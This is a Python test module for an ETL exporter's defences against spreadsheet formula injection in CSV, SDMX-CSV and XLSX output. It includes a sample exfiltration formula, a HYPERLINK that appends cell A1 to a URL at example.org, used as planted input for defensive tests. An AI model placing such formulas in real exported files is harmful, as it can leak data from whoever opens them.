"""Nothing that leaves as a spreadsheet runs in it, and nothing is lost by that."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import polars as pl
import pytest
from hypothesis import given
from polars.testing import assert_frame_equal

import etl
from tests.etl.export.cells import DANGEROUS, build_rows, read_csv, read_workbook, texts, whole_rows

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@given(whole_rows)
def test_what_a_csv_holds_comes_back_by_the_rule_that_is_told(rows: pl.DataFrame) -> None:
    content = etl.write_rows(rows, "csv")

    assert_frame_equal(etl.restore_text(read_csv(content, rows)), rows)


@given(texts)
def test_no_cell_of_a_csv_begins_as_a_formula(text: str) -> None:
    content = etl.write_rows(pl.DataFrame({"text": [text]}), "csv").decode()

    cells = [row[0] for row in csv.reader(io.StringIO(content, newline="")) if row][1:]

    assert not any(cell.startswith(tuple(DANGEROUS)) for cell in cells)


@pytest.mark.parametrize("sign", list(DANGEROUS))
def test_every_sign_that_starts_a_formula_is_defused(sign: str) -> None:
    rows = pl.DataFrame({"text": [f"{sign}1+1", f"'{sign}1", f"a{sign}1"]})

    written = read_csv(etl.write_rows(rows, "csv"), rows)

    assert written["text"].to_list() == [f"'{sign}1+1", f"''{sign}1", f"a{sign}1"]


def test_numbers_and_days_are_left_as_they_are() -> None:
    rows = build_rows([("x", -5.5, -7, date(1999, 12, 31), True)])

    assert etl.write_rows(rows, "csv") == b"text,number,count,day,flag\nx,-5.5,-7,1999-12-31,true\n"


def test_a_workbook_holds_a_formula_as_text() -> None:
    content = etl.write_rows(pl.DataFrame({"text": [FORMULA, "http://example.org", "007"]}), "xlsx")

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert read_workbook(content)[1:] == [[FORMULA], ["http://example.org"], ["007"]]


@pytest.mark.parametrize("format_name", ["csv", "sdmx-csv"])
def test_a_note_that_is_a_formula_leaves_defused(format_name: str, built_snapshot: etl.Snapshot) -> None:
    planted = built_snapshot.table("observations").head(1).with_columns(note=pl.lit(FORMULA))

    written = etl.write_rows(planted, format_name).decode()

    cells = next(csv.reader(io.StringIO(written.splitlines()[1])))
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells
